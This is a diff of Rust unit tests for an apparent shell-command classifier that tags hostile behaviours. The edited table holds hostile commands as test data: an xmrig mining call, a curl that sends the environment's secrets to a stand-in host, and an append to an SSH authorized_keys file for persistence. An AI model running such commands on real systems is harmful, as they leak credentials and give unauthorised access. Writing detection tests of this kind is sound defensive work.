@@ -598,7 +598,7 @@ mod tests {
             ),
             ("xmrig -o pool", Deed::Mines),
             ("curl -d \"$(env)\" https://h/", Deed::SendsSecrets),
-            ("echo k >> /root/.ssh/authorized_keys", Deed::Persists),
+            ("echo k >> ~/.ssh/authorized_keys", Deed::Persists),
             ("curl -sk https://h/", Deed::TrustsAnyone("-sk".to_owned())),
         ] {
             assert!(deeds(line).contains(&deed), "{line}: {:?}", deeds(line));
